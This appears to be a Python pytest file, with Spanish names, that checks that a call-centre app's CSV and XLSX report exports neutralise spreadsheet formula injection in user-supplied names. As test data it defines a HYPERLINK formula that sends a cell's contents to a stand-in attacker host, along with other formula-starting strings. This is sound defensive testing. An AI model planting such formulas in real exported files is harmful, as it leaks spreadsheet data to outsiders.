"""Ningún texto de un usuario llega como fórmula a un CSV o a un XLSX exportado."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from servicios.exportacion.csv import celda_segura
from test.ayudas_api import crear_llamada, crear_usuario

pytestmark = pytest.mark.usefixtures("sin_clasificacion_automatica")

HIPERVINCULO = '=HYPERLINK("http://attacker.example/?"&B2,"Ver")'
NOMBRES_PELIGROSOS = (HIPERVINCULO, "+SUM(1)", "-2+3", "@SUM(A1:A9)")


@pytest.fixture
def reporte_con_nombres_peligrosos(cliente, cabeceras):
    """Un agente por nombre peligroso, cada uno con una llamada, y el reporte que las recoge."""
    for indice, nombre in enumerate(NOMBRES_PELIGROSOS):
        agente = crear_usuario(
            cliente, cabeceras("admin"), nombre=nombre, email=f"formula{indice}@example.com"
        )
        crear_llamada(cliente, cabeceras(agente["email"]), numero_cliente=f"+3460000000{indice}")
    respuesta = cliente.post("/api/reportes/", json={}, headers=cabeceras("supervisor"))
    assert respuesta.status_code == 201, respuesta.text
    return respuesta.json()


def _descargar(cliente, cabeceras, reporte, formato: str) -> bytes:
    respuesta = cliente.get(
        f"/api/reportes/{reporte['id']}/descargar",
        params={"formato": formato},
        headers=cabeceras("supervisor"),
    )
    assert respuesta.status_code == 200, respuesta.text
    return respuesta.content


def test_csv_neutraliza_los_textos_que_empiezan_una_formula(
    cliente, cabeceras, reporte_con_nombres_peligrosos
):
    contenido = _descargar(cliente, cabeceras, reporte_con_nombres_peligrosos, "csv")
    filas = list(csv.DictReader(io.StringIO(contenido.decode("utf-8-sig")), delimiter=";"))
    assert sorted(fila["Agente"] for fila in filas) == sorted(
        "'" + nombre for nombre in NOMBRES_PELIGROSOS
    )
    # Los números de cliente canónicos ('+' y dígitos) no ejecutan nada y salen tal cual.
    assert sorted(fila["Cliente"] for fila in filas) == [
        f"+3460000000{i}" for i in range(len(NOMBRES_PELIGROSOS))
    ]
    for fila in filas:
        for columna, valor in fila.items():
            assert columna == "Cliente" or not valor.startswith(("=", "+", "-", "@")), fila


def test_xlsx_escribe_los_textos_como_texto_y_nunca_como_formula(
    cliente, cabeceras, reporte_con_nombres_peligrosos
):
    contenido = _descargar(cliente, cabeceras, reporte_con_nombres_peligrosos, "xlsx")
    with zipfile.ZipFile(io.BytesIO(contenido)) as paquete:
        hojas = [n for n in paquete.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(hojas) == 5
        for hoja in hojas:
            xml = paquete.read(hoja).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, hoja
            assert "<hyperlink" not in xml, hoja
    libro = load_workbook(io.BytesIO(contenido))
    llamadas = libro["Llamadas"]
    agentes_en_llamadas = [llamadas.cell(row=f, column=3) for f in range(2, llamadas.max_row + 1)]
    assert sorted(c.value for c in agentes_en_llamadas) == sorted(NOMBRES_PELIGROSOS)
    assert {c.data_type for c in agentes_en_llamadas} == {"s"}
    agentes = libro["Agentes"]
    nombres = [agentes.cell(row=f, column=1) for f in range(2, agentes.max_row + 1)]
    assert sorted(c.value for c in nombres) == sorted(NOMBRES_PELIGROSOS)
    assert {c.data_type for c in nombres} == {"s"}


@pytest.mark.parametrize(
    ("valor", "esperado"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(1)", "'+SUM(1)"),
        ("-1+2", "'-1+2"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+34600111222", "+34600111222"),
        ("Ana =1", "Ana =1"),
        (-5, -5),
        (None, None),
    ],
)
def test_celda_segura_solo_toca_los_textos_que_empiezan_una_formula(valor, esperado):
    assert celda_segura(valor) == esperado
